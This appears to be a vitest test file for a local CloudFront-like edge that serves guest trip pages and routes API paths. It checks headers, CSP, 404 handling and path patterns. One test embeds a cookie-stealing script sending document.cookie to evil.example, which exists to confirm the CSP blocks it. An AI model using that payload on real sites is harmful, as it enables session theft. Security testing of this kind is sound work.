import { GUEST_PAGE_CACHE_CONTROL, GUEST_PAGE_CONTENT_TYPE } from '@scc/aws';
import { escapeHtml, guestPageCsp, renderGuestPage } from '@scc/pages';
import { describe, expect, it, vi } from 'vitest';
import { guestPageNotFoundHtml, runViewerRequest, viewerRequestEvent } from './cloudfront-function';
import { localEdge, matchesPathPattern } from './edge';

const BASE = 'http://127.0.0.1:3000';
const PAGE = '<!doctype html><title>Sunset sail</title><h1>Sunset sail</h1>';

function setup(pages: Record<string, string> = { 'sunset-abc': PAGE }) {
  const api = vi.fn(async (request: Request) => Response.json({ api: new URL(request.url).pathname }));
  const get = vi.fn(async (slug: string) => pages[slug]);
  const edge = localEdge(api, { get });
  const fetch = (path: string, init?: RequestInit) => edge.fetch(new Request(`${BASE}${path}`, init));
  return { api, get, fetch };
}

const SECURITY_HEADERS = {
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'no-referrer',
};

describe('localEdge', () => {
  it.each(['/g/sunset-abc', '/g/sunset-abc/', '/g/sunset-abc?utm_source=email', '/g/sunset-abc/?a=1&a=2'])(
    'serves %s from the bucket object g/sunset-abc.html with the headers CloudFront adds',
    async (path) => {
      const { api, get, fetch } = setup();
      const response = await fetch(path);
      expect(response.status).toBe(200);
      expect(await response.text()).toBe(PAGE);
      expect(Object.fromEntries(response.headers)).toEqual({
        'content-type': GUEST_PAGE_CONTENT_TYPE,
        'cache-control': GUEST_PAGE_CACHE_CONTROL,
        'content-security-policy': guestPageCsp(),
        ...SECURITY_HEADERS,
      });
      expect(get).toHaveBeenCalledExactlyOnceWith('sunset-abc', expect.anything());
      expect(api).not.toHaveBeenCalled();
    },
  );

  it("sends a page's own CSP as a header, so an object that is not SCC's page runs no script", async () => {
    const mediaOrigin = 'http://192.168.1.20:4568';
    const rendered = renderGuestPage(
      {
        slug: 'sunset-abc',
        title: 'Sunset sail',
        start: '2027-07-04T18:00:00-07:00',
        end: '2027-07-04T21:00:00-07:00',
        timezone: 'America/Los_Angeles',
        boat: 'JADA',
        meetingPoint: 'Dock C',
        crew: [],
        checklist: [],
      },
      { mediaOrigin },
    );
    const injected = '<!doctype html><script>fetch("https://evil.example/"+document.cookie)</script>';
    const api = vi.fn(async () => new Response('api'));
    const pages: Record<string, string> = { 'sunset-abc': rendered, 'tampered-abc': injected };
    const edge = localEdge(api, { get: async (slug) => pages[slug] }, { mediaOrigin });
    const csp = (await edge.fetch(new Request(`${BASE}/g/sunset-abc`))).headers.get('content-security-policy');
    // The very policy the page carries in its <meta> tag, plus frame-ancestors.
    expect(csp).toBe(guestPageCsp(mediaOrigin));
    expect(rendered).toContain(`content="${escapeHtml(guestPageCsp(mediaOrigin).replace("; frame-ancestors 'none'", ''))}"`);
    const tampered = await edge.fetch(new Request(`${BASE}/g/tampered-abc`));
    expect(tampered.headers.get('content-security-policy')).toBe(csp);
    // Only scripts of this origin may run (the bundles under /assets/): no 'unsafe-inline', no other source.
    expect(csp).toContain("script-src 'self'; ");
    expect(csp).not.toContain('unsafe');
  });

  it('answers HEAD with the headers and no body', async () => {
    const { fetch } = setup();
    const response = await fetch('/g/sunset-abc', { method: 'HEAD' });
    expect(response.status).toBe(200);
    expect(response.headers.get('cache-control')).toBe(GUEST_PAGE_CACHE_CONTROL);
    expect(await response.text()).toBe('');
  });

  it.each(['/g/Sunset', '/g/a.b', '/g/sunset-abc.html', '/g/a%2Fb', '/g/a/b', '/g/sunset-abc/gallery', '/g/', '/g/a%20b', `/g/${'a'.repeat(121)}`])(
    "answers the malformed %s with the function's own 404, without reading the bucket",
    async (path) => {
      const { api, get, fetch } = setup();
      const response = await fetch(path);
      expect(response.status).toBe(404);
      expect(response.headers.get('content-type')).toBe('text/html; charset=utf-8');
      expect(response.headers.get('cache-control')).toBe('public, max-age=300');
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(await response.text()).toBe(guestPageNotFoundHtml());
      expect(get).not.toHaveBeenCalled();
      expect(api).not.toHaveBeenCalled();
    },
  );

  it('answers a well-formed slug without a page with the not-found page, uncached', async () => {
    const { api, get, fetch } = setup();
    const response = await fetch('/g/no-such-trip');
    expect(response.status).toBe(404);
    expect(await response.text()).toContain('<h1>Trip not found</h1>');
    expect(Object.fromEntries(response.headers)).toEqual({
      'content-type': GUEST_PAGE_CONTENT_TYPE,
      'cache-control': 'no-store',
      ...SECURITY_HEADERS,
    });
    expect(get).toHaveBeenCalledExactlyOnceWith('no-such-trip', expect.anything());
    expect(api).not.toHaveBeenCalled();
  });

  it('answers 502 when the local S3 cannot be read', async () => {
    const api = vi.fn(async () => new Response('api'));
    const edge = localEdge(api, {
      get: async () => {
        throw new Error('connect ECONNREFUSED');
      },
    });
    const error = vi.spyOn(console, 'error').mockImplementation(() => undefined);
    try {
      const response = await edge.fetch(new Request(`${BASE}/g/sunset-abc`));
      expect(response.status).toBe(502);
      expect(error).toHaveBeenCalled();
    } finally {
      error.mockRestore();
    }
    expect(api).not.toHaveBeenCalled();
  });

  it.each([
    ['GET', '/g/x/checklist'],
    ['GET', '/g/sunset-abc/checklist?since=3'],
    ['GET', '/g/x/photos'],
    ['POST', '/g/x/photos'],
    ['POST', '/g/x/photos/abc/complete'],
    ['GET', '/g/x/photosets'],
    ['GET', '/g/a/b/checklist'],
    ['GET', '/g//photos'],
  ])('sends %s %s to the API, like the guest API behaviors', async (method, path) => {
    const { api, get, fetch } = setup();
    const response = await fetch(path, { method });
    expect(await response.json()).toEqual({ api: new URL(`${BASE}${path}`).pathname });
    expect(api).toHaveBeenCalledOnce();
    const forwarded = api.mock.calls[0]![0];
    expect(forwarded.method).toBe(method);
    expect(forwarded.url).toBe(`${BASE}${path}`);
    expect(get).not.toHaveBeenCalled();
  });

  it.each(['/health', '/g', '/c/evt_123?t=abc', '/admin', '/bookings', '/gallery', '/G/sunset-abc'])(
    'sends %s, outside the /g/* behavior, to the API',
    async (path) => {
      const { api, get, fetch } = setup();
      await fetch(path);
      expect(api).toHaveBeenCalledOnce();
      expect(api.mock.calls[0]![0].url).toBe(`${BASE}${path}`);
      expect(get).not.toHaveBeenCalled();
    },
  );

  it('passes the request itself to the API, headers and body included', async () => {
    const { api, fetch } = setup();
    await fetch('/bookings', {
      method: 'POST',
      headers: { 'x-service-key': 'k', 'content-type': 'application/json' },
      body: '{"a":1}',
    });
    const forwarded = api.mock.calls[0]![0];
    expect(forwarded.headers.get('x-service-key')).toBe('k');
    expect(await forwarded.text()).toBe('{"a":1}');
  });

  it.each(['POST', 'PUT', 'DELETE', 'OPTIONS'])('refuses %s on a guest page with 403, as the behavior does', async (method) => {
    const { api, get, fetch } = setup();
    const response = await fetch('/g/sunset-abc', { method });
    expect(response.status).toBe(403);
    expect(api).not.toHaveBeenCalled();
    expect(get).not.toHaveBeenCalled();
  });
});

describe('matchesPathPattern (CloudFront path patterns)', () => {
  it.each([
    ['/g/*', '/g/x', true],
    ['/g/*', '/g/', true],
    ['/g/*', '/g', false],
    ['/g/*', '/G/x', false],
    ['/g/*/photos*', '/g/x/photos', true],
    ['/g/*/photos*', '/g/x/photos/a/b', true],
    ['/g/*/photos*', '/g/x/y/photos', true],
    ['/g/*/photos*', '/g/photos', false],
    ['/g/*/checklist*', '/g/x/checklist', true],
    ['/g/*/checklist*', '/g/x/Checklist', false],
    ['/a?c', '/abc', true],
    ['/a.c', '/abc', false],
  ])('%s matches %s: %s', (pattern, path, expected) => {
    expect(matchesPathPattern(pattern, path)).toBe(expected);
  });
});

describe('runViewerRequest', () => {
  it("turns a Fetch request into CloudFront's viewer-request event", () => {
    const event = viewerRequestEvent(
      new Request(`${BASE}/g/a%20b?utm_source=email&tag=a&tag=b&flag`, {
        headers: { Accept: 'text/html', Cookie: 'seen=1; theme=dark' },
      }),
      { viewerIp: '198.51.100.11' },
    );
    expect(event).toEqual({
      version: '1.0',
      context: {
        distributionDomainName: '127.0.0.1:3000',
        distributionId: 'LOCAL',
        eventType: 'viewer-request',
        requestId: expect.any(String),
      },
      viewer: { ip: '198.51.100.11' },
      request: {
        method: 'GET',
        uri: '/g/a%20b',
        querystring: {
          utm_source: { value: 'email' },
          tag: { value: 'a', multiValue: [{ value: 'a' }, { value: 'b' }] },
          flag: { value: '' },
        },
        headers: { accept: { value: 'text/html' } },
        cookies: { seen: { value: '1' }, theme: { value: 'dark' } },
      },
    });
  });

  it('gives the S3 key of a rewritten request', async () => {
    expect(await runViewerRequest(new Request(`${BASE}/g/sunset-abc/?x=1`))).toEqual({ objectKey: 'g/sunset-abc.html' });
  });

  it("gives the function's own answer as a Fetch Response", async () => {
    const { response, objectKey } = await runViewerRequest(new Request(`${BASE}/g/A`));
    expect(objectKey).toBeUndefined();
    expect(response?.status).toBe(404);
    expect(response?.statusText).toBe('Not Found');
    expect(response?.headers.get('referrer-policy')).toBe('no-referrer');
    expect(await response?.text()).toBe(guestPageNotFoundHtml());
  });
});
